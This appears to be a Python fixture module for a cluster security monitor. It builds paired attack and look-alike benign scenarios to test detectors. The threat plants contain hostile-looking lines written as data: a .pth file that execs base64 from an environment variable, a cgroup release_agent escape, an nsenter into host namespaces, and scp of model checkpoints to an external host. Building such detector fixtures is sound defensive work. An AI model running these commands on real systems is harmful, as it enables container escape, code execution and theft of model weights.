"""Threat scenarios: for each vector one attack and one look-alike that must stay quiet.

Each scenario plants its story in the real formats a cluster emits: pip lists and
an OSV dump, a shard manifest and its shards, node-exporter InfiniBand counters and
``partitions.conf``, the training hook's gradient samples, dcgm-exporter scrapes
and ``/proc/driver/nvidia/params``, Falco and Tetragon JSON lines. In the twin they
go through the hooks (``adjust_ib``, ``adjust_gpu``, ``events``, ``extra_files``);
``write_threat_fixtures`` writes the same story with a fixed Slurm history
(``squeue.json``) so tests and benchmarks scan it without running the twin.

    name                          expected rules
    threat_supply_chain           supply_chain.{known_incident, typosquat, osv_malicious, osv_vulnerable,
                                  vcs_install, pth_exec}
    benign_supply_chain           none (normal ML stack, a fixed pyyaml, setuptools' own .pth)
    threat_data_poisoning         data_poisoning.{shard_mismatch, write_during_job}
    benign_data_poisoning         none (shards intact; the dataset written before the job started)
    threat_rdma                   rdma.{traffic_no_job, traffic_disproportion, pkey_violation, partitions_open}
    benign_rdma                   none (balanced ring traffic; Lustre servers busy over IB; partitions isolate)
    threat_gradient               gradient.{norm_outlier, sketch_direction}
    benign_gradient               none (ranks differ only by data noise)
    threat_remanence              remanence.{fb_after_job, busy_no_job, scrub_disabled}
    benign_remanence              none (memory back to baseline after the job; driver scrubs)
    threat_container_escape       container_escape.{release_agent, shell, escape_tool}
    benign_container_escape       none (the job owner's debug shell; Notice-level noise)
    threat_weights                weights.{foreign_reader, reader_outside_job}
    benign_weights                none (the training job writes and reads its own checkpoints)
"""

from __future__ import annotations

import hashlib
import hmac
import io
import json
import math
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, TypeVar

import numpy as np

from hpcwatch import vocab
from hpcwatch.records import VECTOR_TABLE, Event, Job, Vector
from hpcwatch.twin.ebpf import events_of as _events_of
from hpcwatch.twin.ebpf import falco_doc as _falco
from hpcwatch.twin.ebpf import tetragon_doc as _tetragon
from hpcwatch.twin.scenarios import Scenario, register
from hpcwatch.vocab import EventKind

__all__ = [
    "ThreatFixture",
    "World",
    "write_threat_fixtures",
    "THREAT_SCENARIOS",
    "EXPECTED_RULES",
    "FIXTURE_START_S",
    "STORAGE_HOST",
]

#: Fixture time: 2026-11-29 ~ the twin's DEFAULT_START_S, so both tell the same dates.
FIXTURE_START_S = 1_796_000_000.0
#: A Lustre server on the fabric (the scan treats ``<storage name>-*`` hosts as storage).
STORAGE_HOST = "lustre-oss1"
_SCRAPE_S = 30.0
#: NDR InfiniBand MTU (4 KiB), as twin/core.py's IB_MTU_BYTES: the packets the exfiltrated bytes take.
_IB_MTU_BYTES = 4096
_OBSERVE_S = 600.0
#: Directions of the gradient sketch; the same number as security/gradients.py's ``SKETCH_DIMS``
#: (duplicated: the twin may not import security; tests/unit/test_security_scenarios.py holds them equal).
SKETCH_DIMS = 32
#: The manifest signature's name, as sources/manifest.py's ``SIGNATURE_ALG`` (same reason, same test).
_SIGNATURE_ALG = "HMAC-SHA256"

EXPECTED_RULES: dict[str, frozenset[str]] = {
    "threat_supply_chain": frozenset(
        {
            "supply_chain.known_incident",
            "supply_chain.typosquat",
            "supply_chain.osv_malicious",
            "supply_chain.osv_vulnerable",
            "supply_chain.vcs_install",
            "supply_chain.pth_exec",
        }
    ),
    "threat_data_poisoning": frozenset({"data_poisoning.shard_mismatch", "data_poisoning.write_during_job"}),
    "threat_rdma": frozenset(
        {"rdma.traffic_no_job", "rdma.traffic_disproportion", "rdma.pkey_violation", "rdma.partitions_open"}
    ),
    "threat_gradient": frozenset({"gradient.norm_outlier", "gradient.sketch_direction"}),
    "threat_remanence": frozenset({"remanence.fb_after_job", "remanence.busy_no_job", "remanence.scrub_disabled"}),
    "threat_container_escape": frozenset(
        {"container_escape.release_agent", "container_escape.shell", "container_escape.escape_tool"}
    ),
    "threat_weights": frozenset({"weights.foreign_reader", "weights.reader_outside_job"}),
}
EXPECTED_RULES.update({name.replace("threat_", "benign_"): frozenset() for name in list(EXPECTED_RULES)})
THREAT_SCENARIOS: tuple[str, ...] = tuple(sorted(EXPECTED_RULES))

_T = TypeVar("_T")


def _known(value: _T | None) -> _T:
    """A job field the fixture world always sets (``Job`` leaves them optional for jobs still queued)."""
    if value is None:
        raise ValueError("the fixture world's jobs have a user, a start and an end")
    return value


@dataclass(frozen=True, slots=True, kw_only=True)
class World:
    """Who runs where: what a plant needs to know about the cluster it attacks."""

    t0: float
    train: Job
    """The training job (owner ``train.user``)."""
    ended: Job | None = None
    """A job that ends during the observation (its GPUs are then free)."""
    intruder: str = "bob"
    nodes: tuple[str, ...] = ("node1", "node2")


@dataclass(slots=True)
class Plant:
    files: dict[str, bytes] = field(default_factory=dict)
    events: list[Event] = field(default_factory=list)


@dataclass(frozen=True, slots=True, kw_only=True)
class ThreatFixture:
    scenario: str
    files: tuple[Path, ...]
    expected: frozenset[str]
    """Rule ids a correct scan reports (empty for a benign scenario)."""


def fixture_world() -> World:
    t0 = FIXTURE_START_S
    train = Job(
        id="4242",
        user="alice",
        account="proj-llm",
        partition="gpu",
        nodes=("node1", "node2"),
        gpus=12,
        gpus_by_node={"node1": tuple(range(8)), "node2": (0, 1, 2, 3)},
        start=t0 - 3600,
        end=t0 + 300,
        state="COMPLETED",
        name="llm-pretrain",
    )
    ended = Job(
        id="4100",
        user="bob",
        account="proj-vision",
        partition="gpu",
        nodes=("node2",),
        gpus=4,
        gpus_by_node={"node2": (4, 5, 6, 7)},
        start=t0 - 1800,
        end=t0 + 120,
        state="COMPLETED",
        name="vit-finetune",
    )
    return World(t0=t0, train=train, ended=ended)


def write_threat_fixtures(out_dir: str | Path, scenario: str) -> ThreatFixture:
    """Write one scenario's files (and the Slurm history they assume) into ``out_dir``."""
    if scenario not in EXPECTED_RULES:
        raise ValueError(f"unknown threat scenario {scenario!r} (known: {', '.join(THREAT_SCENARIOS)})")
    out = Path(out_dir)
    world = fixture_world()
    plant = _PLANTS[scenario.split("_", 1)[1]](world, scenario.startswith("threat_"))
    files = [_write(out, rel, data) for rel, data in plant.files.items()]
    files.append(
        _write(out, "slurm/squeue.json", _squeue_json([world.train, _known(world.ended)], world.t0 + _OBSERVE_S))
    )
    return ThreatFixture(scenario=scenario, files=tuple(files), expected=EXPECTED_RULES[scenario])


def _write(out: Path, rel: str, data: bytes) -> Path:
    path = out / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


# -- formats ---------------------------------------------------------------------------------------------


def _jsonl(docs: Iterable[dict]) -> bytes:
    return "".join(json.dumps(d, sort_keys=True) + "\n" for d in docs).encode()


def _squeue_json(jobs: list[Job], now: float) -> bytes:
    """squeue --json of Slurm 22.05 (openapi v0.0.38), the fields the readers use."""
    rows = []
    for j in jobs:
        detail = [f"gpu:{len(g)}(IDX:{_ranges(g)})" for g in j.gpus_by_node.values()]
        rows.append(
            {
                "account": j.account,
                "job_id": int(j.id),
                "name": j.name,
                "user_name": j.user,
                "user_id": 1001 if j.user == "alice" else 1002,
                "partition": j.partition,
                "nodes": _hostlist(j.nodes),
                "node_count": len(j.nodes),
                "job_state": j.state,
                "start_time": int(_known(j.start)),
                "end_time": int(_known(j.end)),
                "submit_time": int(_known(j.start)) - 60,
                "gres_detail": detail,
                "tres_alloc_str": f"cpu=16,node={len(j.nodes)},billing=16,gres/gpu={j.gpus}",
                "batch_host": j.nodes[0],
                "cluster": "reference",
                "group_name": j.user,
            }
        )
    doc = {
        "meta": {
            "plugin": {"type": "openapi/v0.0.38", "name": "Slurm OpenAPI v0.0.38"},
            "Slurm": {"version": {"major": 22, "micro": 8, "minor": 5}, "release": "22.05.8"},
        },
        "errors": [],
        "jobs": rows,
    }
    return json.dumps(doc, indent=1).encode()


def _ranges(idx: tuple[int, ...]) -> str:
    return f"{idx[0]}-{idx[-1]}" if len(idx) > 1 and idx[-1] - idx[0] == len(idx) - 1 else ",".join(map(str, idx))


def _hostlist(nodes: tuple[str, ...]) -> str:
    if len(nodes) > 1 and all(n.startswith("node") for n in nodes):
        return "node[" + ",".join(n[4:] for n in nodes) + "]"
    return ",".join(nodes)


def _prom(metric: str, help_: str, kind: str, rows: list[tuple[dict[str, str], float]], t: float) -> str:
    lines = [f"# HELP {metric} {help_}", f"# TYPE {metric} {kind}"]
    for labels, value in rows:
        inner = ",".join(f'{k}="{v}"' for k, v in labels.items())
        lines.append(f"{metric}{{{inner}}} {value:.17g} {int(t * 1000)}")
    return "\n".join(lines) + "\n"


def _scrapes(world: World) -> list[float]:
    return [world.t0 + i * _SCRAPE_S for i in range(int(_OBSERVE_S / _SCRAPE_S) + 1)]


def _sign_manifest(dataset: str, shards: list[dict], key: bytes) -> dict:
    """A signed manifest as sources/manifest.py's ``sign_manifest`` writes it: HMAC-SHA256 over the
    key-sorted compact JSON of {dataset, shards} (rebuilt here: the twin may not import sources)."""
    rows = [{k: v for k, v in r.items() if v is not None} for r in shards]
    payload = json.dumps(
        {"dataset": dataset, "shards": rows}, sort_keys=True, separators=(",", ":"), ensure_ascii=False
    ).encode()
    value = hmac.new(key, payload, hashlib.sha256).hexdigest()
    return {"dataset": dataset, "shards": shards, "signature": {"alg": _SIGNATURE_ALG, "value": value}}


def _nvidia_params_event(text: str, *, path: str, host: str, t: float) -> Event:
    """The ``nvidia_params`` Event sources/procparams.py makes of the params text this module writes."""
    params = {}
    for line in text.splitlines():
        name, sep, value = line.partition(":")
        if sep:
            params[name.strip()] = value.strip()
    for pair in params.get("RegistryDwords", "").strip('"').split(";"):
        key, sep, value = pair.partition("=")
        if sep and key.strip():
            params.setdefault(key.strip(), value.strip())
    return Event(kind=EventKind.NVIDIA_PARAMS, t=t, source=path, attrs={"host": host, "params": params})


def _grad_sketch(flat: np.ndarray, *, seed: int = 0) -> np.ndarray:
    """``SKETCH_DIMS`` Gaussian projections of a flat gradient, as security/gradients.py's ``grad_sketch``
    (same seed, same directions; the detector only compares ranks of one job with each other)."""
    flat = np.asarray(flat, dtype=np.float64).ravel()
    return np.random.default_rng(seed).standard_normal((SKETCH_DIMS, flat.size)) @ flat / math.sqrt(SKETCH_DIMS)


def _gradient_lines(
    *, job: str, rank: int, step: int, t: float, norm: float, sketch: np.ndarray, node: str, gpu: int
) -> list[dict]:
    """The hook's JSON lines (instrument/torch.py) of one rank's step: norm, non-finite count, sketch."""
    labels = {"job": job, "rank": str(rank), "step": str(step), "node": node, "gpu": str(gpu)}
    lines = [
        {"kind": "sample", "metric": vocab.TRAIN_GRAD_NORM, "labels": labels, "t": t, "value": float(norm)},
        {"kind": "sample", "metric": vocab.TRAIN_GRAD_NONFINITE, "labels": labels, "t": t, "value": 0.0},
    ]
    lines += [
        {
            "kind": "sample",
            "metric": vocab.TRAIN_GRAD_SKETCH,
            "labels": {**labels, "dim": str(i)},
            "t": t,
            "value": float(v),
        }
        for i, v in enumerate(sketch)
    ]
    return lines


# -- plants ------------------------------------------------------------------------------------------------


def _plant_supply_chain(world: World, attack: bool) -> Plant:
    packages = [
        ("torch", "2.3.0"),
        ("numpy", "1.26.4"),
        ("transformers", "4.41.2"),
        ("scipy", "1.13.1"),
        ("safetensors", "0.4.3"),
        ("dataset", "1.6.2"),
        ("scapy", "2.5.0"),
        ("pytorch-triton", "2.3.0"),
    ]
    packages.append(("pyyaml", "5.3.1" if attack else "6.0.1"))
    if attack:
        packages += [("torchtriton", "2.0.0"), ("transfomers", "4.41.2"), ("1337test", "1")]
    plant = Plant()
    plant.files["image/pip-list.json"] = json.dumps([{"name": n, "version": v} for n, v in packages]).encode()
    freeze = ["accelerate==0.30.1", "einops==0.8.0"]
    if attack:
        freeze.append("fastloader @ git+https://github.com/example-org/fastloader@6f1e2a9")
    plant.files["image/requirements-frozen.txt"] = ("\n".join(freeze) + "\n").encode()
    site = "image/site-packages/"
    plant.files[site + "distutils-precedence.pth"] = (
        b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
        b"enabled and __import__('_distutils_hack').add_shim(); \n"
    )
    if attack:
        plant.files[site + "nvidia-cuda-init.pth"] = (
            b"import os, base64; exec(base64.b64decode(os.environ.get('NV_INIT', 'cGFzcw==')))\n"
        )
    plant.files["osv/PyPI-all.zip"] = _osv_zip()
    return plant


def _osv_zip() -> bytes:
    """Made by us in the OSV schema, plus the real OpenSSF record MAL-2024-4720 (see tests/data/SOURCES.md)."""
    records = {
        "MAL-2024-4720.json": {
            "modified": "2024-10-24T01:01:57Z",
            "published": "2024-06-25T13:32:02Z",
            "schema_version": "1.5.0",
            "id": "MAL-2024-4720",
            "summary": "Malicious code in 1337test (PyPI)",
            "affected": [
                {"package": {"ecosystem": "PyPI", "name": "1337test", "purl": "pkg:pypi/1337test"}, "versions": ["1"]}
            ],
        },
        "HPCWATCH-FIXTURE-0001.json": {
            "schema_version": "1.6.0",
            "id": "HPCWATCH-FIXTURE-0001",
            "modified": "2026-11-01T00:00:00Z",
            "summary": "fixture made by hpcwatch: arbitrary code execution in full_load (modelled on CVE-2020-14343)",
            "affected": [
                {
                    "package": {"ecosystem": "PyPI", "name": "PyYAML"},
                    "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "5.4"}]}],
                }
            ],
        },
        "HPCWATCH-FIXTURE-0002.json": {
            "schema_version": "1.6.0",
            "id": "HPCWATCH-FIXTURE-0002",
            "modified": "2026-11-01T00:00:00Z",
            "summary": "fixture made by hpcwatch: a range closed by last_affected",
            "affected": [
                {
                    "package": {"ecosystem": "PyPI", "name": "torch"},
                    "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "1.0"}, {"last_affected": "2.2.2"}]}],
                }
            ],
        },
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, doc in records.items():
            archive.writestr(name, json.dumps(doc, indent=2))
    return buf.getvalue()


def _plant_data_poisoning(world: World, attack: bool) -> Plant:
    rng = np.random.default_rng(7)
    shards = {f"train-{i:05d}.bin": rng.integers(0, 50_000, 4096, dtype=np.uint16).tobytes() for i in range(3)}
    rows = [
        {"path": name, "sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data), "samples": 2}
        for name, data in shards.items()
    ]
    plant = Plant()
    plant.files["dataset/manifest.json"] = json.dumps(
        _sign_manifest("fineweb-edu-sample", rows, b"fixture-key"), indent=1
    ).encode()
    for name, data in shards.items():
        if attack and name.endswith("00001.bin"):
            data = data[:100] + b"\x13\x37" * 8 + data[116:]  # same size, different bytes: a planted sample
        plant.files[f"dataset/{name}"] = data
    when = world.t0 + 60 if attack else _known(world.train.start) - 600
    doc = _tetragon(
        when,
        "node2",
        "process_kprobe",
        binary="/usr/bin/python3",
        user=world.intruder if attack else _known(world.train.user),
        uid=1002 if attack else 1001,
        args="append_samples.py",
        function="security_file_permission",
        path="/lustre/datasets/fineweb/train-00002.bin",
        mask=2,
        policy="dataset-write",
    )
    plant.files["tetragon/dataset.jsonl"] = _jsonl([doc])
    plant.events = _events_of([doc], "tetragon")
    return plant


def _plant_rdma(world: World, attack: bool) -> Plant:
    plant = Plant()
    ring_bytes_s = 6e9  # per node while the job trains: a few GB/s of ring AllReduce over 8 HCAs
    counters: dict[tuple[str, int], list[float]] = {}
    hosts = list(world.nodes) + [STORAGE_HOST]
    for i, t in enumerate(_scrapes(world)):
        for host in hosts:
            rows_x, rows_r, rows_c = [], [], []
            for port in range(8 if host != STORAGE_HOST else 2):
                rate = _rdma_rate(world, host, port, t, attack, ring_bytes_s)
                c = counters.setdefault((host, port), [1e13 + port * 1e9, 1e13 + port * 1e9, 0.0])
                if i:
                    c[0] += rate * _SCRAPE_S
                    c[1] += rate * _SCRAPE_S
                if attack and host == "node2" and port == 3 and t > world.t0 + 200:
                    c[2] += 17  # P_Key violations: someone probing another partition
                labels = {"device": f"mlx5_{port}", "port": "1", "instance": f"{host}:9100", "job": "node"}
                rows_x.append((labels, c[0]))
                rows_r.append((labels, c[1]))
                rows_c.append((labels, c[2]))
            text = (
                _prom(
                    vocab.NODE_INFINIBAND_PORT_DATA_TRANSMITTED_BYTES_TOTAL,
                    "Number of data octets transmitted on all links",
                    "counter",
                    rows_x,
                    t,
                )
                + _prom(
                    vocab.NODE_INFINIBAND_PORT_DATA_RECEIVED_BYTES_TOTAL,
                    "Number of data octets received on all links",
                    "counter",
                    rows_r,
                    t,
                )
                + _prom(
                    vocab.NODE_INFINIBAND_PORT_CONSTRAINT_ERRORS_RECEIVED_TOTAL,
                    "Number of packets received on the switch physical port that are discarded",
                    "counter",
                    rows_c,
                    t,
                )
            )
            plant.files[f"node-exporter/{host}/{i:03d}.prom"] = text.encode()
    plant.files["opensm/partitions.conf"] = (
        b"# OpenSM partitions (as shipped)\nDefault=0x7fff, ipoib : ALL=full;\n"
        if attack
        else b"# Default: everyone may reach the SM, nobody each other\nDefault=0x7fff, ipoib : ALL=limited, SELF=full;\n"
        b"# The training job's partition, full members by port GUID\n"
        b"llm=0x8001, ipoib : 0x506b4b03005c2740=full, 0x506b4b0300cc02a6=full;\n"
        b"storage=0x8002 : ALL_CAS=limited, 0x7cfe9003003b4b96=full;\n"
    )
    return plant


def _rdma_rate(world: World, host: str, port: int, t: float, attack: bool, ring: float) -> float:
    if host == STORAGE_HOST:
        return 2.5e9  # Lustre OSS serving reads over o2ib all the time
    end = world.train.end if world.train.end is not None else float("inf")
    training = _known(world.train.start) <= t <= end and host in world.train.nodes
    rate = ring / 8 if training else 0.0
    if attack and host == "node2" and training:
        rate *= 5  # one node of the job moves five times its share
    if attack and host == "node1" and not training and t > end + 60:
        rate = 2e9 / 8  # after the job: 2 GB/s out of a node nobody holds
    return rate


def _plant_gradient(world: World, attack: bool) -> Plant:
    rng = np.random.default_rng(11)
    true_grad = rng.standard_normal(4096)
    lines = []
    for step in range(12):
        t = world.t0 + step * 0.5
        for rank in range(8):
            local = true_grad + 0.8 * rng.standard_normal(4096)
            if attack and rank == 5 and step >= 4:
                local = local * 40.0  # scaled gradients
            if attack and rank == 2 and step >= 6:
                local = -local  # flipped gradients: same norm, opposite direction
            node, gpu = world.train.nodes[rank // 4], rank % 4
            lines += _gradient_lines(
                job=world.train.id,
                rank=rank,
                step=step,
                t=t,
                norm=float(np.linalg.norm(local)),
                sketch=_grad_sketch(local, seed=0),
                node=node,
                gpu=gpu,
            )
    return Plant(files={"hook/rank-all.jsonl": _jsonl(lines)})


def _plant_remanence(world: World, attack: bool) -> Plant:
    plant = Plant()
    job = _known(world.ended)
    job_end = _known(job.end)
    for i, t in enumerate(_scrapes(world)):
        fb, util = [], []
        for gpu in range(8):
            holder = (
                world.train.id
                if gpu < 4 and t <= (world.train.end or float("inf"))
                else (job.id if gpu >= 4 and t <= job_end else "")
            )
            used = 61_000.0 if holder else 0.0
            busy = 95.0 if holder else 0.0
            if attack and gpu == 5 and not holder:
                used = 30_500.0  # a process of job 4100 survived its epilog and holds its memory
            if attack and gpu == 7 and not holder and t > job_end + 90:
                busy, used = 88.0, 12_000.0  # someone computes on a GPU no job owns
            labels = {
                "gpu": str(gpu),
                "UUID": f"GPU-00000000-0000-0000-0000-00000000000{gpu}",
                "pci_bus_id": f"00000000:{0x18 + gpu:02X}:00.0",
                "device": f"nvidia{gpu}",
                "modelName": "NVIDIA H100 80GB HBM3",
                "Hostname": "node2",
                "hpc_job": holder,
            }
            fb.append((labels, used))
            util.append((labels, busy))
        text = _prom(vocab.DCGM_FI_DEV_FB_USED, "Framebuffer memory used (in MiB).", "gauge", fb, t) + _prom(
            vocab.DCGM_FI_DEV_GPU_UTIL, "GPU utilization (in %).", "gauge", util, t
        )
        plant.files[f"dcgm/node2/{i:03d}.prom"] = text.encode()
    dwords = "RMDisableScrubOnFree=1" if attack else ""
    params = (
        "ResmanDebugLevel: 4294967295\nRmLogonRC: 1\nModifyDeviceFiles: 1\nDeviceFileUID: 0\nDeviceFileGID: 0\n"
        f'DeviceFileMode: 438\nEnableMSI: 1\nRegistryDwords: "{dwords}"\nRmMsg: ""\n'
    )
    plant.files["node2/proc/driver/nvidia/params"] = params.encode()
    plant.events = [_nvidia_params_event(params, path="/proc/driver/nvidia/params", host="node2", t=world.t0)]
    return plant


def _plant_container_escape(world: World, attack: bool) -> Plant:
    t, job = world.t0 + 100, world.train
    owner = _known(job.user)
    if attack:
        falco = [
            _falco(t, "node1", "Terminal shell in container", "Notice", user="root", cmdline="bash -i", job=job.id),
            _falco(
                t + 20,
                "node1",
                "Detect release_agent File Container Escapes",
                "Critical",
                user="root",
                cmdline="sh -c echo /cmd > /tmp/cgrp/release_agent",
                job=job.id,
            ),
        ]
        tetra = [
            _tetragon(
                t + 40,
                "node2",
                "process_exec",
                binary="/usr/bin/nsenter",
                user="root",
                uid=0,
                args="--target 1 --mount --uts --ipc --net --pid -- bash",
                parent="/usr/bin/python3",
            )
        ]
    else:
        falco = [
            _falco(t, "node1", "Terminal shell in container", "Notice", user=owner, cmdline="bash", job=job.id),
            _falco(
                t + 5,
                "node1",
                "Contact K8S API Server From Container",
                "Notice",
                user=owner,
                cmdline="curl",
                job=job.id,
            ),
        ]
        tetra = [
            _tetragon(
                t + 40,
                "node2",
                "process_exec",
                binary="/usr/bin/nvidia-smi",
                user=owner,
                uid=1001,
                parent="/usr/bin/bash",
            )
        ]
    return Plant(
        files={"falco/alerts.jsonl": _jsonl(falco), "tetragon/exec.jsonl": _jsonl(tetra)},
        events=_events_of(falco, "falco") + _events_of(tetra, "tetragon"),
    )


def _plant_weights_access(world: World, attack: bool) -> Plant:
    t, job, ckpt = world.t0 + 30, world.train, "/lustre/checkpoints/llm/step_001000/model.safetensors"
    owner = _known(job.user)
    docs = [
        _tetragon(
            t,
            "node1",
            "process_kprobe",
            binary="/usr/bin/python3",
            user=owner,
            uid=1001,
            args="train.py",
            function="security_file_permission",
            path=ckpt,
            mask=2,
        ),
        _tetragon(
            t + 60,
            "node2",
            "process_kprobe",
            binary="/usr/bin/python3",
            user=owner,
            uid=1001,
            args="train.py --resume",
            function="security_mmap_file",
            path=ckpt,
            mask=1,
        ),
    ]
    if attack:
        docs += [
            _tetragon(
                t + 90,
                "node2",
                "process_kprobe",
                binary="/usr/bin/cp",
                user=world.intruder,
                uid=1002,
                args=f"{ckpt} /tmp/m",
                function="security_file_permission",
                path=ckpt,
                mask=4,
            ),
            _tetragon(
                t + 120,
                "login1",
                "process_kprobe",
                binary="/usr/bin/scp",
                user=owner,
                uid=1001,
                args=f"{ckpt} ext:/",
                function="security_file_permission",
                path=ckpt,
                mask=4,
            ),
        ]
    return Plant(files={"tetragon/weights.jsonl": _jsonl(docs)}, events=_events_of(docs, "tetragon"))


#: Each vector's plant; the scenarios are named by its short name (records.VECTOR_TABLE): threat_rdma, benign_rdma.
_PLANT_OF: dict[Vector, Callable[[World, bool], Plant]] = {
    "supply_chain": _plant_supply_chain,
    "data_poisoning": _plant_data_poisoning,
    "rdma_blind_spot": _plant_rdma,
    "gradient_injection": _plant_gradient,
    "gpu_memory_remanence": _plant_remanence,
    "container_escape": _plant_container_escape,
    "weights_access": _plant_weights_access,
}
_PLANTS: dict[str, Callable[[World, bool], Plant]] = {v.short: _PLANT_OF[v.id] for v in VECTOR_TABLE}


# -- the twin's side -------------------------------------------------------------------------------------------


class _ThreatScenario(Scenario):
    """Plants once, at the first tick: events through ``events``, files through ``extra_files``."""

    vector = ""
    attack = True

    def bind(self, twin: Any) -> None:
        self._twin = twin
        self._planted = False
        # (node, port, what) -> the running value: "added" words, the port's "own" words, the last "t"
        self._carry: dict[tuple[str, int, str], float] = {}

    def _world(self, t0: float | None = None) -> World:
        twin = self._twin
        fixture = fixture_world()
        train = next(iter(twin.jobs), None) or fixture.train
        return World(t0=twin.now if t0 is None else t0, train=train, ended=fixture.ended, nodes=tuple(twin.node_names))

    def events(self, *, twin: Any, t0: float, t1: float) -> Iterable[Event]:
        if self._planted:
            return ()
        self._planted = True
        plant = _PLANTS[self.vector](self._world(), self.attack)
        shift = t1 - min((e.t for e in plant.events), default=t1)
        return [Event(kind=e.kind, t=e.t + shift, source=e.source, attrs=e.attrs) for e in plant.events]

    def extra_files(self, *, twin: Any, out: Path, t0: float, t1: float) -> None:
        plant = _PLANTS[self.vector](self._world(t0), self.attack)
        for rel, data in plant.files.items():
            if not rel.startswith(("node-exporter/", "dcgm/")):  # the twin writes its own scrapes
                _write(out / "threats" / self.name, rel, data)


def _scenario(name: str, vector: str, attack: bool, description: str) -> type[Scenario]:
    cls = type(
        name.title().replace("_", ""),
        (_ThreatScenario,),
        {"name": name, "vector": vector, "attack": attack, "description": description},
    )
    return register(cls)


for _vector in _PLANTS:
    _scenario(f"threat_{_vector}", _vector, True, f"attack on the {_vector.replace('_', ' ')} vector")
    _scenario(f"benign_{_vector}", _vector, False, f"normal activity that resembles the {_vector} attack")


@register
class ThreatRdmaLive(_ThreatScenario):
    """The RDMA attack inside the live twin: the last node sends data out of the cluster over InfiniBand.

    Where the bytes go: to a port that is not a cluster node's (an IB router or a host of another
    tenant on the same fabric, reached through the open default partition this scenario also plants). So the
    cluster's own HCAs no longer balance: everywhere else what one node transmits another receives (ring
    AllReduce is symmetric, rail to rail), but the last node's ``PortXmitData`` grows by the exfiltrated
    words and no cluster port's ``PortRcvData`` does. Σ xmit − Σ rcv over the cluster's ports is the
    exfiltration (tests/unit/test_twin_physics.py), and the node transmits ``factor`` times its job share
    (``rdma.traffic_disproportion``), and ``idle_bytes_s`` once its job is gone (``rdma.traffic_no_job``).
    """

    name = "threat_rdma"
    vector = "rdma"
    description = "one node sends InfiniBand traffic out of the cluster that its jobs do not explain"
    factor = 7.0
    """The node transmits this many times what its job's ring sends (its traffic, tx + rx, is then 4 x its
    peers', above the detector's 3 x)."""
    idle_bytes_s = 1e9

    def adjust_ib(self, *, node: str, port: int, t: float, counters: dict[str, float]) -> None:
        if node != self._twin.node_names[-1]:
            return
        added = self._carry.setdefault((node, port, "added"), 0.0)
        own = counters["PortXmitData"] - added  # what the twin alone put on the port (words)
        last_own = self._carry.get((node, port, "own"), own)
        last_t = self._carry.get((node, port, "t"), t)
        extra = (self.factor - 1) * max(own - last_own, 0.0) + self.idle_bytes_s * (t - last_t) / 4  # 4-byte words
        self._carry.update({(node, port, "own"): own, (node, port, "t"): t, (node, port, "added"): added + extra})
        packets = math.ceil(extra * 4 / _IB_MTU_BYTES)
        counters["PortXmitData"] += extra
        counters["PortXmitPkts"] += packets
        counters["PortUnicastXmitPkts"] += packets

    def exfiltrated_bytes(self) -> float:
        """Bytes sent to the port outside the cluster so far (the twin's ground truth)."""
        return 4 * sum(v for (_, _, what), v in self._carry.items() if what == "added")


@register
class ThreatRemanenceLive(_ThreatScenario):
    """The remanence attack inside the live twin: a free GPU of the last node keeps memory and works."""

    name = "threat_remanence"
    vector = "remanence"
    description = "a process outlives its job on a GPU; the driver does not scrub"

    def adjust_gpu(self, *, node: str, gpu: int, t: float, fields: dict[str, float]) -> None:
        if node == self._twin.node_names[-1] and gpu == 7 and self._twin.job_of(node, gpu) is None:
            fields[vocab.DCGM_FI_DEV_FB_USED] = 30_500.0
            fields[vocab.DCGM_FI_DEV_GPU_UTIL] = 60.0
